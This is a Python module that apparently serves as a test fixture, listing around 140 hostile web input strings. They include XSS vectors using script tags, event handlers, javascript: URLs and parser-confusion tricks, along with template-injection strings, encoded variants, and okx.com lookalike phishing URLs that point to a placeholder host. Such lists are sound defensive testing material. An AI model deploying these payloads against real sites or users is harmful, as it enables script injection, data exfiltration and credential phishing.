"""Hostile text: things that were markup, script or a link somewhere, sometime."""

from __future__ import annotations

HOSTILE_COIN = "<IMG SRC=X ONERROR=ALERT(1)>"
HOSTILE_TITLE = "<script>alert(1)</script> upgrade"
CANARY = "canary.invalid"

_TAGS = """
<script>alert(1)</script>
<script src=//canary.invalid/x.js></script>
<script src="https://canary.invalid/x.js"></script>
<SCRIPT>alert(1)</SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\t>alert(1)</script\t>
<script/x>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src='x' onerror='alert(1)'>
<img/src=x/onerror=alert(1)>
<img src=https://canary.invalid/p.gif>
<img srcset="https://canary.invalid/p.gif 1x">
<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="https://canary.invalid/x.js"/></svg>
<svg><image href="https://canary.invalid/p.gif"/></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style>@import 'https://canary.invalid/x.css'</style></svg>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=a()&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><svg><style><path id="</style><img onerror=a() src>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<style><img src="</style><img src=x onerror=alert(1)//">
<title><img title="</title><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<xmp><img title="</xmp><img src=x onerror=alert(1)>">
<iframe src=javascript:alert(1)>
<iframe src="https://canary.invalid/"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)>
<object data="javascript:alert(1)">
<object data="https://canary.invalid/x.swf"></object>
<embed src="javascript:alert(1)">
<embed src="https://canary.invalid/x.swf">
<applet code="x" archive="https://canary.invalid/x.jar">
<link rel=stylesheet href=https://canary.invalid/x.css>
<link rel=import href=https://canary.invalid/x.html>
<link rel=prefetch href=https://canary.invalid/x>
<meta http-equiv=refresh content="0;url=https://canary.invalid/">
<meta http-equiv=Set-Cookie content="x=y">
<base href=https://canary.invalid/>
<body onload=alert(1)>
<body background=https://canary.invalid/p.gif>
<body onscroll=alert(1)><br><br><br><input autofocus>
<input autofocus onfocus=alert(1)>
<input type=image src=https://canary.invalid/p.gif>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<form action=https://canary.invalid/><input name=secret></form>
<isindex action=javascript:alert(1) type=image>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=https://canary.invalid/p.gif></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div style="background:url(https://canary.invalid/p.gif)">
<div style="width:expression(alert(1))">
<div onpointerover=alert(1) style="position:fixed;inset:0">
<div contenteditable onfocus=alert(1) autofocus tabindex=1>
<table background=https://canary.invalid/p.gif>
<td background="javascript:alert(1)">
<bgsound src=https://canary.invalid/x.mid>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)><b>x</b></slot>
<saldo-chat server="https://canary.invalid"></saldo-chat>
<x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//canary.invalid" target=_blank>x</a>
<a ping="https://canary.invalid/" href="#">x</a>
<map><area shape=default href=javascript:alert(1)></map>
<!--><script>alert(1)</script>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "https://canary.invalid/">]>&y;
""".strip().splitlines()

_TEXTS = """
javascript:alert(1)
JaVaScRiPt:alert(1)
java\u0000script:alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
https://canary.invalid/
http://canary.invalid/
//canary.invalid/x
https://www.okx.com@canary.invalid/
https://www.okx.com.canary.invalid/help
https://canary.invalid/?https://www.okx.com/help
https://www.okx.com:443@canary.invalid/
https://user:pass@www.okx.com/help
https://www.okx.com\\@canary.invalid/
[x](javascript:alert(1))
[x](https://canary.invalid/)
![x](https://canary.invalid/p.gif)
![x](x"onerror="alert(1))
<https://canary.invalid/>
[x]: javascript:alert(1)
`<img src=x onerror=alert(1)>`
**<img src=x onerror=alert(1)>**
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' autofocus onfocus='alert(1)
</div></div><img src=x onerror=alert(1)>
</script><script>alert(1)</script>
</textarea><script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
{%raw%}<script>alert(1)</script>{%endraw%}
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
\u02bascript\u02ba alert(1)
\u202e<script>alert(1)</script>
\u2066<img src=x onerror=alert(1)>\u2069
__proto__
constructor
""".strip().splitlines()

VECTORS: tuple[str, ...] = (*_TAGS, *_TEXTS)
